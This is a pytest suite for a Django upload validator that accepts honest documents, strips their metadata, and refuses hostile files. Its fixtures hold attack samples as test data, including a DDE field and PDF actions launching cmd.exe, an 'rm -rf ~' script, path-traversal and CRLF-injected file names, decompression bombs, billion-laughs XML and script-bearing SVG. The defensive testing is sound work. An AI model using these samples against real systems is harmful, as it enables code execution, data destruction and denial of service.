"""What is received from outside: honest papers come in, whatever else they carry stays out."""

import io
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageFile
from pypdf import PdfReader
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.core import made_files as made
from veille.core import uploads
from veille.core.uploads import FileKind, Refused, bounds, refusal


def _add_link(writer):
    writer.add_uri(page_number=0, uri="https://www.caf.fr/", rect=(10, 10, 50, 50))
    writer.add_outline_item(title="Première page", page_number=0)


def _add_author(writer):
    writer.add_metadata({"/Author": "Mireille Vandecasteele", "/Title": "Ma situation"})


def _chart(book, sheet):
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Février!$B$2:$B$9"})
    sheet.insert_chart("E2", chart)
    sheet.insert_image("E20", "photo.png", {"image_data": io.BytesIO(made.picture())})


HONEST = {
    "un PDF": ("bail.pdf", made.pdf(), FileKind.PDF),
    "un PDF de vingt pages": ("Jugement du 3 mai 2016.pdf", made.pdf(20), FileKind.PDF),
    "un PDF avec un lien et des signets": ("attestation.pdf", made.pdf(prepare=_add_link), FileKind.PDF),
    "un PDF que l’on peut lire sans mot de passe": (
        "releve.pdf",
        made.pdf(user_password="", owner_password="banque", algorithm="AES-256"),
        FileKind.PDF,
    ),
    "un PDF écrit à la main": ("vieux.PDF", made.raw_pdf(), FileKind.PDF),
    "un PDF suivi de blancs": ("scan.pdf", made.pdf() + b"\r\n\r\n", FileKind.PDF),
    "un PDF sans extension": ("document", made.pdf(), FileKind.PDF),
    "une photo": ("IMG_2041.JPG", made.picture("JPEG"), FileKind.JPEG),
    "une photo de téléphone": ("photo.jpeg", made.located_photo(), FileKind.JPEG),
    "une photo en gris": ("scan.jpg", made.picture("JPEG", "L"), FileKind.JPEG),
    "une photo d’imprimeur": ("carte.jpg", made.picture("JPEG", "CMYK"), FileKind.JPEG),
    "une photo progressive": ("p.jpg", made.picture("JPEG", progressive=True), FileKind.JPEG),
    "une photo double": ("IMG.jpg", made.double_photo(), FileKind.JPEG),
    "une capture d’écran": ("Capture d’écran 2018-12-01.png", made.picture(), FileKind.PNG),
    "une image transparente": ("logo.png", made.picture(mode="RGBA"), FileKind.PNG),
    "une image en deux couleurs": ("plan.png", made.picture(mode="1"), FileKind.PNG),
    "une image à palette": ("plan.png", made.picture(mode="P", transparency=0), FileKind.PNG),
    "une image en seize bits": ("radio.png", made.picture(mode="I;16"), FileKind.PNG),
    "un PNG nommé jpg par une messagerie": ("image.jpg", made.picture(), FileKind.PNG),
    "un texte Word": ("Compte rendu d’été.docx", made.docx(), FileKind.DOCX),
    "un texte Word avec un lien": (
        "lettre.docx",
        made.docx(relations=made.relation("hyperlink", "https://www.adil62.org/")),
        FileKind.DOCX,
    ),
    "un texte Word avec une photo": (
        "lettre.docx",
        made.docx({"word/media/image1.png": made.picture()}),
        FileKind.DOCX,
    ),
    "un classeur Excel": ("budget.xlsx", made.xlsx(), FileKind.XLSX),
    "un classeur avec un graphique": ("Suivi (2).xlsx", made.xlsx(_chart), FileKind.XLSX),
    "un texte LibreOffice": ("courrier.odt", made.open_document(), FileKind.ODT),
    "un classeur LibreOffice": ("budget.ods", made.open_document(made.ODS), FileKind.ODS),
    "un texte en UTF-8": ("notes.txt", "Élève à Nœux, 12 €, 5 < 6 & 7 > 3".encode(), FileKind.TEXT),
    "un texte de Windows": ("notes.txt", "Échéance : 12 €".encode("cp1252"), FileKind.TEXT),
    "un texte du Bloc-notes": ("notes.txt", "Échéance".encode("utf-16"), FileKind.TEXT),
    "un tableau CSV": ("soldes.csv", "contrat;solde\n12;1 240,50\n".encode("utf-8-sig"), FileKind.CSV),
    "un nom à points": ("M. Dupont.lettre.signée.pdf", made.pdf(), FileKind.PDF),
    "un nom décomposé": ("Re\u0301ponse.pdf", made.pdf(), FileKind.PDF),
}


@pytest.mark.parametrize("case", HONEST)
def test_an_honest_file_is_received(case):
    name, content, kind = HONEST[case]
    received = uploads.check(name, content)
    assert received.kind == kind
    assert received.content
    assert uploads.check(f"encore.{kind.extension}", received.content).kind == kind


def _attach(writer):
    writer.add_attachment("facture.xml", b"<x/>")


def _hidden_script(writer):
    """In a page's annotation, inside a compressed object like any other."""
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")})
    note = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action})
    writer.pages[0][NameObject("/Annots")] = writer._add_object(note)


def _bomb(writer):
    stream = DecodedStreamObject()
    stream.set_data(b"\0" * 300 * bounds.MEGABYTE)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream.flate_encode())


def _giant_picture(writer):
    stream = DecodedStreamObject()
    stream.set_data(b"\0")
    stream[NameObject("/Subtype")] = NameObject("/Image")
    stream[NameObject("/Width")] = stream[NameObject("/Height")] = NumberObject(90_000)
    writer.pages[0][NameObject("/Thumb")] = writer._add_object(stream)


def _action(action: str) -> bytes:
    return made.raw_pdf(root=f"<< /Type /Catalog /Pages 2 0 R /OpenAction << {action} >> >>")


def _inflating_docx() -> bytes:
    return made.docx({"word/media/bruit.xml": b"<x>" + b" " * 130 * bounds.MEGABYTE + b"</x>"})


def _laughs() -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    text = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{lines}]><x>&l8;</x>'
    return made.docx({"word/document.xml": text})


def _twins() -> bytes:
    """Two entries of one name: two readers would read two documents."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target, pytest.warns(UserWarning, match="Duplicate name"):
        for name, content in [*made.docx_parts().items(), ("word/document.xml", "<autre/>")]:
            target.writestr(name, content)
    return out.getvalue()


def _nested() -> bytes:
    return made.docx({"word/embeddings/interieur.docx": made.docx()})


DDE = '<w:instrText xmlns:w="u">DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>'
XFA = "<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA (x) >> >>"
TAIL = "<< /Type /Catalog /Pages 4 0 R >>"
EXE = b"MZ\x90\x00" + b"\0" * 200
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
MACRO_DOCX = "application/vnd.ms-word.document.macroEnabled.main+xml"

HOSTILE = {
    # What is not what it says.
    "un programme nommé PDF": ("facture.pdf", EXE, None),
    "un programme sans extension": ("facture", EXE, None),
    "un programme": ("facture.exe", EXE, refusal.RUNS),
    "une double extension": ("facture.pdf.exe", made.pdf(), refusal.RUNS),
    "un programme devant": ("facture.exe.pdf", made.pdf(), refusal.RUNS),
    "une page nommée PDF": ("page.pdf", HTML, None),
    "une page nommée texte": ("page.txt", HTML, refusal.WEB_PAGE),
    "une page nommée CSV": ("soldes.csv", b"contrat;<script>alert(1)</script>", refusal.WEB_PAGE),
    "une page": ("page.html", HTML, refusal.RUNS),
    "un SVG": ("logo.svg", SVG, refusal.RUNS),
    "un SVG nommé PNG": ("logo.png", SVG, refusal.NOT_ITS_NAME),
    "un SVG nommé texte": ("logo.txt", b"\xef\xbb\xbf \n" + SVG, refusal.WEB_PAGE),
    "un PDF nommé Word": ("lettre.docx", made.pdf(), refusal.NOT_ITS_NAME),
    "un texte Word nommé photo": ("photo.jpg", made.docx(), refusal.NOT_ITS_NAME),
    "un classeur nommé texte Word": ("lettre.docx", made.xlsx(), refusal.NOT_ITS_NAME),
    "un script": ("notes.txt", b"#!/bin/sh\nrm -rf ~\n", refusal.WEB_PAGE),
    "un message avec pièces": ("notes.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n", refusal.WEB_PAGE),
    "une archive": ("papiers.zip", made.archive({"a.txt": b"a"}), refusal.UNKNOWN),
    "un programme Java nommé Word": ("l.docx", made.archive({"META-INF/MANIFEST.MF": b"a"}), refusal.UNKNOWN),
    "un GIF": ("anime.gif", b"GIF89a" + b"\0" * 40, refusal.OTHER_IMAGE),
    "un GIF nommé JPEG": ("photo.jpg", b"GIF89a" + b"\0" * 40, refusal.OTHER_IMAGE),
    "une photo HEIC": ("IMG.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", refusal.HEIC),
    "un ancien Word": ("lettre.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, refusal.OLD_OFFICE),
    "un RTF": ("lettre.rtf", rb"{\rtf1\ansi Bonjour}", refusal.RTF),
    # Names.
    "un chemin": ("../../etc/passwd.pdf", made.pdf(), refusal.BAD_NAME),
    "un chemin de Windows": ("..\\..\\boot.pdf", made.pdf(), refusal.BAD_NAME),
    "un zéro dans le nom": ("bail\0.pdf", made.pdf(), refusal.BAD_NAME),
    "un nom écrit de droite à gauche": ("bail\u202efdp.exe", made.pdf(), refusal.BAD_NAME),
    "un retour à la ligne": ("bail\r\nX-En-tete: 1.pdf", made.pdf(), refusal.BAD_NAME),
    "un nom sans lettre": ("", made.pdf(), refusal.BAD_NAME),
    "un nom démesuré": ("a" * 300 + ".pdf", made.pdf(), refusal.BAD_NAME),
    "un flux caché de Windows": ("bail.pdf:flux", made.pdf(), refusal.BAD_NAME),
    "un fichier caché": (".htaccess", b"Deny from all", refusal.BAD_NAME),
    # Size.
    "rien": ("vide.pdf", b"", refusal.EMPTY),
    "un texte blanc": ("vide.txt", b" \n\n ", refusal.EMPTY),
    "trop": ("gros.pdf", b"%PDF-1.7\n" + b"0" * bounds.FILE_BYTES, refusal.TOO_BIG),
    # Pictures.
    "une image géante de cent octets": ("g.png", made.png_header(60_000, 60_000), refusal.TOO_LARGE_IMAGE),
    "un ruban sans fin": ("g.png", made.png_header(30_000, 2), refusal.TOO_LARGE_IMAGE),
    "une image qui ment sur sa taille": ("g.png", made.png_header(4_000, 4_000), refusal.BROKEN),
    "une photo coupée": ("p.jpg", made.picture("JPEG", size=(400, 400))[:900], refusal.BROKEN),
    "un en-tête seul": ("p.jpg", b"\xff\xd8\xff\xe0", refusal.BROKEN),
    # PDF.
    "un PDF coupé": ("b.pdf", made.pdf()[:120], refusal.BROKEN),
    "un début de PDF": ("b.pdf", b"%PDF-1.7\n", refusal.BROKEN),
    "un PDF avec programme": ("b.pdf", _action("/S /JavaScript /JS (app.alert)"), refusal.ACTS),
    "un PDF avec programme caché": ("b.pdf", made.pdf(prepare=_hidden_script), refusal.ACTS),
    "un PDF qui lance un programme": ("b.pdf", _action("/S /Launch /F (cmd.exe)"), refusal.ACTS),
    "un PDF qui envoie un formulaire": ("b.pdf", _action("/S /SubmitForm /F (http://x.invalid)"), refusal.ACTS),
    "un PDF qui ouvre un autre fichier": ("b.pdf", _action(r"/S /GoToR /F (\\\\serveur\\x)"), refusal.ACTS),
    "un PDF qui suit une action": (
        "b.pdf",
        _action("/S /URI /URI (https://a.invalid) /Next << /S /JavaScript /JS (1) >>"),
        refusal.ACTS,
    ),
    "un PDF avec pièce jointe": ("b.pdf", made.pdf(prepare=_attach), refusal.EMBEDS),
    "un formulaire XFA": (
        "b.pdf",
        made.raw_pdf(root=XFA),
        refusal.ACTS,
    ),
    "un PDF avec mot de passe": ("b.pdf", made.pdf(user_password="secret", algorithm="AES-256"), refusal.PROTECTED),
    "un PDF qui gonfle": ("b.pdf", lambda: made.pdf(prepare=_bomb), refusal.INFLATES),
    "un PDF à l’image géante": ("b.pdf", made.pdf(prepare=_giant_picture), refusal.TOO_LARGE_IMAGE),
    "un PDF sans fin": ("b.pdf", lambda: made.pdf(bounds.PDF_PAGES + 1), refusal.TOO_LONG),
    "un PDF sans page": ("b.pdf", made.raw_pdf(root="<< /Type /Catalog >>"), refusal.BROKEN),
    "un PDF qui se mord la queue": (
        "b.pdf",
        made.raw_pdf("5 0 R", root=TAIL),
        refusal.BROKEN,
    ),
    # Texts and workbooks.
    "un texte Word à macros": ("l.docx", made.docx({"word/vbaProject.bin": b"x"}), refusal.MACROS),
    "des macros déclarées": ("l.docx", made.docx(main=MACRO_DOCX), refusal.MACROS),
    "un classeur à macros": ("c.xlsm", made.xlsx(), refusal.RUNS),
    "un contrôle ActiveX": ("l.docx", made.docx({"word/activeX/activeX1.xml": "<x/>"}), refusal.MACROS),
    "des macros LibreOffice": ("l.odt", made.open_document(extra={"Basic/Standard/M.xml": "<x/>"}), refusal.MACROS),
    "un document dans un document": ("l.docx", _nested, refusal.EMBEDS),
    "un objet OLE": ("l.docx", made.docx({"word/embeddings/oleObject1.bin": b"x"}), refusal.EMBEDS),
    "un programme sous un nom d’image": ("l.docx", made.docx({"word/media/image1.png": EXE}), refusal.EMBEDS),
    "un modèle pris ailleurs": (
        "l.docx",
        made.docx(relations=made.relation("attachedTemplate", "http://x.invalid/m.dotm")),
        refusal.FETCHES,
    ),
    "une image prise ailleurs": (
        "l.docx",
        made.docx(relations=made.relation("image", "http://x.invalid/suivi.png")),
        refusal.FETCHES,
    ),
    "un champ DDE": ("l.docx", made.docx({"word/footer1.xml": DDE}), refusal.FETCHES),
    "un texte Word qui gonfle": ("l.docx", _inflating_docx, refusal.INFLATES),
    "mille rires": ("l.docx", _laughs, refusal.BROKEN),
    "une archive chiffrée": ("l.docx", made.encrypted_archive(made.docx()), refusal.PROTECTED),
    "un chemin dans l’archive": ("l.docx", made.docx({"../../evil.xml": "<x/>"}), refusal.BROKEN),
    "un chemin absolu": ("l.docx", made.docx({"/etc/evil.xml": "<x/>"}), refusal.BROKEN),
    "deux parties du même nom": ("l.docx", _twins, refusal.BROKEN),
    "une archive coupée": ("l.docx", made.docx()[:-30], refusal.BROKEN),
    "un fichier derrière l’archive": ("l.docx", made.docx() + b"%PDF-1.7", refusal.BROKEN),
    "dix mille parties": ("l.docx", made.docx({f"x/{n}.xml": "<x/>" for n in range(2_500)}), refusal.INFLATES),
    "du XML abîmé": ("l.docx", made.docx({"word/document.xml": "<x>"}), refusal.BROKEN),
    # Texts.
    "un zéro dans un texte": ("n.txt", b"bonjour\0", refusal.NOT_A_TEXT),
    "des octets quelconques": ("n.txt", b"\x81\x8d\x8f\x90\x9d", refusal.NOT_A_TEXT),
    "de l’UTF-16 coupé": ("n.txt", b"\xff\xfea\0b", refusal.NOT_A_TEXT),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_in_french(case):
    name, content, sentence = HOSTILE[case]
    content = content() if callable(content) else content
    with pytest.raises(Refused) as refused:
        uploads.check(name, content)
    (said,) = refused.value.messages
    assert said == (sentence or said)
    assert name not in said or not name


def test_there_are_enough_of_both():
    assert len(HOSTILE) >= 60
    assert len(HONEST) >= 30


class TestWhatIsKept:
    def test_a_photo_no_longer_says_where_nor_by_which_telephone(self):
        taken = made.located_photo()
        assert b"Telephone-de-Mireille" in taken
        kept = uploads.check("photo.jpg", taken).content
        with Image.open(io.BytesIO(kept)) as picture:
            assert dict(picture.getexif()) == {}
            assert picture.size == (20, 60), "la photo est redressée avant d’être écrite"
        assert b"Exif" not in kept
        assert b"Mireille" not in kept

    @pytest.mark.parametrize("form", ["JPEG", "PNG"])
    def test_what_is_glued_behind_a_picture_is_gone(self, form):
        glued = made.picture(form) + made.archive({"secret.txt": b"x" * 50}) + HTML
        kept = uploads.check(f"p.{form.lower()}", glued).content
        assert b"secret.txt" not in kept
        assert b"<script>" not in kept

    def test_of_a_double_photo_one_is_kept(self):
        kept = uploads.check("p.jpg", made.double_photo()).content
        assert kept.count(b"\xff\xd8\xff") == 1

    def test_what_a_jpeg_says_aside_is_gone(self):
        said = made.picture("JPEG", comment=b"Mireille etait la", icc_profile=b"profil" * 30)
        assert b"Mireille" in said
        kept = uploads.check("p.jpg", said).content
        assert b"Mireille" not in kept
        assert b"profil" not in kept

    def test_what_a_png_carries_in_its_margins_is_gone(self):
        from PIL.PngImagePlugin import PngInfo

        margins = PngInfo()
        margins.add_text("Comment", "<script>alert(1)</script>")
        margins.add_itxt("XML:com.adobe.xmp", "Mireille")
        kept = uploads.check("p.png", made.picture(pnginfo=margins)).content
        assert b"alert" not in kept
        assert b"Mireille" not in kept

    def test_a_pdf_no_longer_says_who_wrote_it(self):
        written = made.pdf(prepare=_add_author)
        assert made.author_of(written) == "Mireille Vandecasteele"
        kept = uploads.check("b.pdf", written).content
        assert made.author_of(kept) == ""
        assert b"Mireille" not in kept

    def test_what_a_pdf_hides_beside_its_pages_is_gone(self):
        orphan = made.raw_pdf("<< /Secret (jeton-orphelin) >>")
        glued = orphan + made.archive({"cache.txt": b"x"})
        kept = uploads.check("b.pdf", glued).content
        assert b"jeton-orphelin" not in kept
        assert b"cache.txt" not in kept
        assert len(PdfReader(io.BytesIO(kept)).pages) == 1

    def test_a_protected_pdf_that_opens_is_kept_open(self):
        sealed = made.pdf(user_password="", owner_password="banque", algorithm="AES-256")
        assert not PdfReader(io.BytesIO(uploads.check("b.pdf", sealed).content)).is_encrypted

    def test_a_text_is_kept_in_utf_8(self):
        assert uploads.check("n.txt", "Échéance : 12 €".encode("cp1252")).content.decode() == "Échéance : 12 €"

    def test_the_digest_is_that_of_what_is_kept(self):
        received = uploads.check("n.txt", b"bonjour")
        assert received.digest == "2cb4b1431b84ec15d35ed83bb927e27e8967d75f4bcd9cc4b25c8d879ae23e18"


def test_a_file_too_large_is_refused_before_it_is_read():
    class Heavy(SimpleUploadedFile):
        def read(self, *args):
            pytest.fail("le fichier a été lu")

    heavy = Heavy("gros.pdf", b"%PDF-")
    heavy.size = bounds.FILE_BYTES + 1
    with pytest.raises(Refused, match="15 Mo"):
        uploads.receive(heavy)


def test_a_stream_is_counted_without_being_kept():
    from veille.core.uploads.pdfs import _count

    with pytest.raises(Refused):
        _count(zlib.compress(b"\0" * 10 * bounds.MEGABYTE), left=bounds.MEGABYTE)
    assert _count(zlib.compress(b"abc"), left=bounds.MEGABYTE) == 3


def test_a_picture_cut_short_is_refused_whatever_another_library_told_pillow(monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    with pytest.raises(Refused):
        uploads.check("photo.jpg", made.picture("JPEG", size=(400, 300))[:-400])
    assert ImageFile.LOAD_TRUNCATED_IMAGES
